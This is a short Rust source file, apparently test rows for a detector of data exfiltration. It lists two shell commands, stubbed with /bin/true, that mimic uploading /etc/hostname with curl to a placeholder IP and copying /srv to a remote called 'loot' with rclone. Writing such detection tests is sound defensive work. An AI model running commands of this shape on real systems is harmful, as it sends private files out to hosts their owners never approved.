//! Carrying it away.

use super::Row;

pub(super) const ROWS: &[Row] = &[
    Row::shell(
        "Private file uploaded",
        "cp /bin/true HERE/curl; HERE/curl -F file=@/etc/hostname http://192.0.2.1/",
    ),
    Row::shell(
        "Cloud storage tool started",
        "cp /bin/true HERE/rclone; HERE/rclone copy /srv far:loot",
    ),
];
